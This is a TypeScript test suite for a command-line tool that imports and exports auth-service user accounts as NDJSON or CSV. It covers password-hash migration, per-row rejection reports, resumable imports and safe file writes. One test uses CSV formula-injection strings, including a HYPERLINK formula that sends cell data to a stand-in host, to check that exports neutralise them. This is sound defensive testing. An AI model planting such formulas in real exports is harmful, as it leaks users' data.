/** Import and export, in a process of their own where that is what matters, on files as long as they need to be. */
import assert from 'node:assert/strict'
import { type ChildProcess, spawn } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { suite, type TestContext, test } from 'node:test'

import { hashSync as bcryptHash } from '@node-rs/bcrypt'
import { parse } from 'csv-parse/sync'

import { run } from '../../cli/users.ts'
import { query } from '../db/sql.ts'
import { callCommand } from '../support/command-call.ts'
import { configOf } from '../support/config.ts'
import { cloneDatabase } from '../support/database.ts'
import { password, signIn } from '../support/people.ts'
import { build } from '../support/server.ts'

const environment = {
  AUTH_SITE_URL: 'http://app.example',
  AUTH_API_EXTERNAL_URL: 'http://auth.example',
  AUTH_DB_DRIVER: 'postgres',
  AUTH_JWT_SECRET: configOf().AUTH_JWT_SECRET,
}
const cli = new URL('../../cli.ts', import.meta.url).pathname
const passwordHash = bcryptHash(password, 4)

suite('users command', () => {
  test('imported people sign in with the password they had', async (t) => {
    const { app, database } = await build(t)
    const django = 'pbkdf2_sha256$20000$seasalt2$Flpve/uAcyo6+IFI6YAhjeABGPVbRQjzHDxRhqxewgw='
    const file = await fileOf(t, 'people.ndjson', [
      { email: 'Ann@Example.com', password_hash: passwordHash, email_confirm: true },
      {
        email: 'bob@example.com',
        password_hash: django,
        email_confirmed_at: '2020-01-01T00:00:00Z',
      },
    ])
    const { stdout } = await usersProcess(database.url, 'import', file)
    assert.match(stdout, /^2 imported, 0 refused/)
    for (const [email, secret] of Object.entries({
      'ann@example.com': password,
      'bob@example.com': 'lètmein',
    })) {
      const response = await signIn(app, { email, password: secret })
      assert.equal(response.statusCode, 200, response.body)
      assert.equal(response.json().user.identities[0].identity_data.email, email)
    }
    const [{ encrypted_password } = {}] = await query(
      database.url,
      `select encrypted_password from auth.users where email = 'ann@example.com'`,
    )
    assert.match(String(encrypted_password), /^\$argon2id/)
    const [entry] = await query(
      database.url,
      `select payload from auth.audit_log_entries where payload ->> 'action' = 'users_imported'`,
    )
    assert.ok(entry)
  })

  for (const format of ['ndjson', 'csv']) {
    test(`what is exported as ${format} and imported elsewhere is the same`, async (t) => {
      const [from, to] = [await cloneDatabase(t), await cloneDatabase(t)]
      const folder = await temporaryFolder(t)
      await users(from.url, 'import', await fileOf(t, 'people.ndjson', various))
      const file = join(folder, `people.${format}`)
      await writeFile(file, 'left by somebody', { mode: 0o644 })
      assert.match((await users(from.url, 'export', file)).stderr, /^6 exported/)
      assert.equal((await stat(file)).mode & 0o777, 0o600)
      const { stdout } = await users(to.url, 'import', file)
      assert.match(stdout, /^6 imported, 0 refused/)
      await assert.rejects(stat(`${file}.refused.ndjson`), { code: 'ENOENT' })
      assert.deepEqual(await everybody(to.url), await everybody(from.url))
    })
  }

  test('what strangers wrote is no formula in the CSV, and comes back as it was', async (t) => {
    const [from, to] = [await cloneDatabase(t), await cloneDatabase(t)]
    const auds = ['=HYPERLINK("https://evil.test/?"&F2)', '@sum', "'=1", '\t=1', "'quoted"]
    const rows = auds.map((aud, index) => ({ email: `-1+1@x${index}.test`, aud }))
    await users(from.url, 'import', await fileOf(t, 'people.ndjson', rows))
    const file = join(await temporaryFolder(t), 'people.csv')
    await users(from.url, 'export', file)

    const cells: string[][] = parse(await readFile(file))
    assert.deepEqual(
      cells.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell)),
      [],
    )
    await users(to.url, 'import', file)
    assert.deepEqual(await everybody(to.url), await everybody(from.url))
  })

  test('an export that fails leaves the one before as it was, and nothing beside it', async (t) => {
    const folder = await temporaryFolder(t)
    const file = join(folder, 'people.ndjson')
    await writeFile(file, 'of yesterday')
    const { code, stderr } = await users('postgres://nobody@127.0.0.1:1/none', 'export', file)
    assert.equal(code, 1, stderr)
    assert.equal(await readFile(file, 'utf8'), 'of yesterday')
    assert.deepEqual(await readdir(folder), ['people.ndjson'])
  })

  test('export writes to what is no file, and leaves it there', async (t) => {
    const { url } = await cloneDatabase(t)
    const file = join(await temporaryFolder(t), 'people.csv')
    await symlink('/dev/null', file)
    const { code, stderr } = await users(url, 'export', file)
    assert.equal(code, 0, stderr)
    assert.ok((await stat(file)).isCharacterDevice())
  })

  test('export without a file writes to standard output', async (t) => {
    const { url } = await cloneDatabase(t)
    await users(url, 'import', await fileOf(t, 'people.ndjson', various))
    const { stdout } = await usersProcess(url, 'export', '--format', 'csv')
    assert.match(stdout, /^id,aud,role,email/)
    assert.equal(stdout.trim().split('\n').length, 7)
  })

  test('rows that cannot be taken are reported with their reasons, all others are in', async (t) => {
    const { url } = await cloneDatabase(t)
    await query(url, `insert into auth.users (id, email) values (gen_random_uuid(), 'taken@b.co')`)
    const rows: [unknown, RegExp | undefined][] = [
      [{ email: 'first@b.co' }, undefined],
      ['{"email": ', /not valid JSON/],
      [[], /not an object/],
      [{ email: 'nonsense' }, /Unable to validate email/],
      [{ phone: 'nonsense' }, /Invalid phone/],
      [{}, /no email, phone or identity/],
      [{ email: 'a@b.co', id: '7' }, /id is not a UUID/],
      [{ email: 'a@b.co', password: 'clear' }, /in clear/],
      [{ email: 'a@b.co', password_hash: 'md5' }, /no known format/],
      [{ email: 'a@b.co', created_at: 'yesterday' }, /created_at is not a time/],
      [{ email: 'a@b.co', created_at: '+100000-01-01T00:00:00Z' }, /created_at is not a time/],
      [{ email: 'a@b.co', user_metadata: 7 }, /user_metadata is not an object/],
      [{ email: 'a@b.co', user_metadata: { a: '\u0000' } }, /cannot store/],
      [{ email: 'a@b.co', user_metadata: { a: '\ud800' } }, /cannot store/],
      [{ email: 'a@b.co', identities: [{ provider: 'google' }] }, /provider_id/],
      [{ email: 'taken@b.co' }, /somebody has this email already/],
      [{ email: 'FIRST@b.co' }, /somebody has this email already/],
      [{ email: 'g1@b.co', identities: [google] }, undefined],
      [{ email: 'g2@b.co', identities: [google] }, /one of its identities already/],
      [{ email: 'g3@b.co', identities: [{ ...google, provider_id: endless }] }, /index row size/],
      [`{"email":"deep@b.co","user_metadata":{"a":${nested(5_000)}}}`, /nested/],
      [`{"email":"deeper@b.co","user_metadata":{"a":${nested(50_000)}}}`, /nested/],
      [{ email: 'slash@b.co', user_metadata: { a: String.raw`\u0000 😀` } }, undefined],
      [{ email: 'last@b.co' }, undefined],
    ]
    const file = await fileOf(
      t,
      'people.ndjson',
      rows.map(([row]) => row),
    )
    const { stdout } = await users(url, 'import', file)
    const expected = rows.flatMap(([, reason], i) => (reason ? [{ line: i + 1, reason }] : []))
    assert.match(
      stdout,
      new RegExp(`^${rows.length - expected.length} imported, ${expected.length} refused`),
    )
    const report = await reportOf(file)
    assert.deepEqual(
      report.map(({ line }) => line),
      expected.map(({ line }) => line),
    )
    for (const [i, { reason }] of expected.entries()) assert.match(report[i]?.reason ?? '', reason)
    const emails = (await everybody(url)).map(({ email }) => email).sort()
    assert.deepEqual(emails, ['first@b.co', 'g1@b.co', 'last@b.co', 'slash@b.co', 'taken@b.co'])
  })

  test('a dry run reports the same and stores nothing', async (t) => {
    const { url } = await cloneDatabase(t)
    const file = await fileOf(t, 'people.ndjson', [{ email: 'a@b.co' }, { email: 'nonsense' }])
    const { stdout } = await users(url, 'import', file, '--dry-run')
    assert.match(stdout, /^1 could be imported, 1 refused/)
    assert.equal((await reportOf(file)).length, 1)
    assert.deepEqual(await everybody(url), [])
  })

  test('killed half way and resumed: none twice, none lost', async (t) => {
    const { url } = await cloneDatabase(t)
    const count = Number(process.env.TEST_IMPORT_ROWS ?? 8_000)
    const people = Array.from({ length: count }, (_, i) =>
      // Every thousandth is refused, so that the report has to go on as well.
      i % 1000 === 7 ? { email: 'nonsense' } : { email: `person-${i}@example.com` },
    )
    const file = await fileOf(t, 'people.ndjson', people)
    for (const share of [0.3, 0.6]) {
      const child = start(url, 'import', file, '--resume')
      await until(async () => (await countUsers(url)) >= count * share, child)
      child.kill('SIGKILL')
      await ended(child)
      assert.ok((await countUsers(url)) < count * 0.95, 'it was killed too late to show anything')
    }
    const { stderr } = await users(url, 'import', file)
    assert.match(stderr, /was stopped after \d+ rows\. Add --resume/)

    const { stdout } = await users(url, 'import', file, '--resume')

    const refused = people.filter(({ email }) => email === 'nonsense').length
    assert.match(stdout, new RegExp(`^${count - refused} imported, ${refused} refused`))
    assert.equal(await countUsers(url), count - refused)
    assert.equal((await reportOf(file)).length, refused)
    const [{ lone } = {}] = await query(
      url,
      `select count(*) as lone from auth.users
       where not exists (select from auth.identities where user_id = users.id)`,
    )
    assert.equal(Number(lone), 0)
  })

  test('resumed when it is already over: nobody is taken in twice', async (t) => {
    const { url } = await cloneDatabase(t)
    // Nothing of this person is unique.
    const file = await fileOf(t, 'people.ndjson', [{ is_anonymous: true }, { email: 'nonsense' }])
    const first = await users(url, 'import', file, '--resume')

    const { stdout } = await users(url, 'import', file, '--resume')

    assert.match(stdout, /^1 imported, 1 refused/)
    assert.match(first.stdout, /^1 imported, 1 refused/)
    assert.equal(await countUsers(url), 1)
    assert.equal((await reportOf(file)).length, 1)
  })

  const mistakes: [string[], RegExp][] = [
    [[], /Usage/],
    [['import'], /Usage/],
    [['import', 'a.csv', 'b.csv'], /Usage/],
    [['import', 'a.csv', '--resume', '--restart'], /Usage/],
    [['import', 'people.xlsx'], /\.ndjson, \.jsonl or \.csv/],
    [['import', '/nowhere/people.csv'], /ENOENT/],
    [['export', '--format', 'xml'], /use ndjson or csv/],
    [['remove'], /Usage/],
  ]
  test('mistakes are told in a sentence', async (t) => {
    const { url } = await cloneDatabase(t)
    for (const [args, message] of mistakes) {
      const { stderr, code } = await users(url, ...args)
      assert.match(stderr, message)
      assert.equal(code, 1)
    }
  })

  test('broken CSV is told with its line', async (t) => {
    const { url } = await cloneDatabase(t)
    const file = join(await temporaryFolder(t), 'people.csv')
    await writeFile(file, 'email,phone\na@b.co,\n"b@b.co,\n')
    const { stderr, code } = await users(url, 'import', file)
    assert.match(stderr, /line 3|line 4/)
    assert.equal(code, 1)
  })
})

const google = {
  provider: 'google',
  provider_id: '12345',
  identity_data: { email: 'g1@b.co', email_verified: true },
}

/** Longer than an entry of an index may be, and not to be compressed. */
const endless = randomBytes(6_000).toString('base64')

const nested = (depth: number) => '['.repeat(depth) + ']'.repeat(depth)

const various: unknown[] = [
  { id: crypto.randomUUID(), email: 'ann@example.com', password_hash: passwordHash },
  { phone: '+1 555 0100', phone_confirm: true, role: 'editor', aud: 'others' },
  { email: 'bob@example.com', phone: '15550101', user_metadata: { name: 'Bob "B", é\n', n: null } },
  { email: 'g1@b.co', identities: [google], app_metadata: { plan: 'gold' } },
  { is_anonymous: true, created_at: '2020-02-29T12:00:00+02:00' },
  {
    email: 'sso@example.com',
    is_sso_user: true,
    banned_until: '2030-01-01T00:00:00Z',
    identities: [{ provider: 'sso:1', id: 'x' }],
  },
]

async function everybody(url: string) {
  return query(
    url,
    `select u.*, (select jsonb_agg(jsonb_build_array(provider, provider_id, identity_data, created_at)
      order by provider) from auth.identities where user_id = u.id) as identities
      from auth.users u order by id`,
  )
}

async function countUsers(url: string): Promise<number> {
  const [{ count } = {}] = await query(url, 'select count(*) from auth.users')
  return Number(count)
}

async function temporaryFolder(t: TestContext): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'postern-'))
  t.after(() => rm(folder, { recursive: true }))
  return folder
}

/** Texts stay as they are, everything else is written as JSON. */
async function fileOf(t: TestContext, name: string, rows: unknown[]): Promise<string> {
  const file = join(await temporaryFolder(t), name)
  const lines = rows.map((row) => (typeof row === 'string' ? row : JSON.stringify(row)))
  await writeFile(file, `${lines.join('\n')}\n`)
  return file
}

async function reportOf(file: string): Promise<{ line: number; reason: string }[]> {
  const text = await readFile(`${file}.refused.ndjson`, 'utf8')
  return text
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line))
}

function start(databaseUrl: string, ...args: string[]): ChildProcess {
  const argv = [cli, 'users', ...args]
  const env = { ...process.env, ...environment, DATABASE_URL: databaseUrl }
  return spawn(process.execPath, argv, { env })
}

async function ended(child: ChildProcess): Promise<number> {
  if (child.exitCode !== null || child.signalCode !== null) return child.exitCode ?? -1
  return new Promise((resolve) => child.once('close', (code) => resolve(code ?? -1)))
}

function users(databaseUrl: string, ...args: string[]) {
  return callCommand(run, args, { ...environment, DATABASE_URL: databaseUrl })
}

/** Runs one command to its end, as the command line does. */
async function usersProcess(databaseUrl: string, ...args: string[]) {
  const child = start(databaseUrl, ...args)
  const texts = { stdout: '', stderr: '' }
  child.stdout?.on('data', (chunk) => {
    texts.stdout += chunk
  })
  child.stderr?.on('data', (chunk) => {
    texts.stderr += chunk
  })
  const code = await ended(child)
  return { ...texts, code }
}

async function until(condition: () => Promise<boolean>, child: ChildProcess): Promise<void> {
  while (!(await condition())) {
    if (child.exitCode !== null) assert.fail('the command ended before it was killed')
    await new Promise((resolve) => setTimeout(resolve, 5))
  }
}
